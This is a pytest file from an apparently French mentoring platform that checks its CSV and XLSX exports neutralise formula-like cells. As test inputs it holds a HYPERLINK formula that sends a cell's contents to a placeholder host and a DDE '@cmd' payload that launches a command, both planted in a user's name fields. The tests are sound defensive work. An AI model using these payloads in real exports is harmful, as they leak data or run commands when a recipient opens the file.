"""The platform's one CSV writer never lets a cell be a formula; XLSX cells stay text."""

import csv
import datetime as dt
import io
import pathlib

import pytest
from openpyxl import load_workbook

from mentorat.exports import cellule_neutralisee, csv_ecrire
from mentorat.models import User
from partenaires import services
from tests.partenaires import scenario
from tests.partenaires.scenario import Q1

RACINE = pathlib.Path(__file__).resolve().parents[2]
LIEN = '=HYPERLINK("http://exemple.invalid/?"&A3,"Voir")'


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        (LIEN, "'" + LIEN),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Inès", "Inès"),
        ("a=b", "a=b"),
        (-3, -3),
        (2.5, 2.5),
        (None, ""),
        (True, "oui"),
        (dt.date(2026, 3, 1), "01/03/2026"),
    ],
)
def test_cells_that_would_be_formulas_are_text(valeur, attendu):
    assert cellule_neutralisee(valeur) == attendu


def test_csv_ecrire_quotes_separators_and_neutralises_every_row():
    contenu = csv_ecrire(["Nom", "=Entête"], [[LIEN, 'a;b"c'], ["Zoé", -1]])
    assert contenu.startswith(b"\xef\xbb\xbf")
    lignes = list(csv.reader(io.StringIO(contenu.decode("utf-8-sig")), delimiter=";"))
    assert lignes == [["Nom", "'=Entête"], ["'" + LIEN, 'a;b"c'], ["Zoé", "-1"]]


@pytest.mark.django_db
def test_a_mentee_named_as_a_formula_is_text_in_the_partners_report(
    private_storage_dir, django_capture_on_commit_callbacks
):
    s = scenario.construire()
    user = User.objects.get(first_name="Inès", last_name="Un")  # one of A's people
    user.first_name, user.last_name = LIEN, "@cmd|' /C calc'!A0"
    user.save()
    with django_capture_on_commit_callbacks(execute=True):
        rapport = services.rapport_demander(
            convention=s.convention_a, debut=Q1[0], fin=Q1[1], par=s.membre_a.user
        )
    rapport.refresh_from_db()
    with rapport.csv.open("rb") as fichier:
        lignes = list(csv.reader(io.StringIO(fichier.read().decode("utf-8-sig")), delimiter=";"))
    noms = [ligne[:2] for ligne in lignes]
    assert ["'" + LIEN, "'@cmd|' /C calc'!A0"] in noms
    assert not any(c.startswith(("=", "+", "@")) for ligne in lignes for c in ligne)

    with rapport.xlsx.open("rb") as fichier:
        feuille = load_workbook(io.BytesIO(fichier.read()))["Filleuls orientés"]
    cellules = [c for ligne in feuille.iter_rows() for c in ligne if c.value == LIEN]
    assert cellules and all(c.data_type == "s" for c in cellules)  # text, not a formula


def test_every_csv_goes_through_the_one_writer():
    """No module but mentorat/exports.py builds a csv writer."""
    fautifs = []
    for app in ("mentorat", "programmes", "parrainages", "partenaires"):
        for fichier in (RACINE / app).rglob("*.py"):
            if fichier.name == "exports.py" and fichier.parent.name == "mentorat":
                continue
            texte = fichier.read_text(encoding="utf-8")
            if "csv.writer(" in texte or "csv.DictWriter(" in texte:
                fautifs.append(str(fichier.relative_to(RACINE)))
    assert fautifs == []
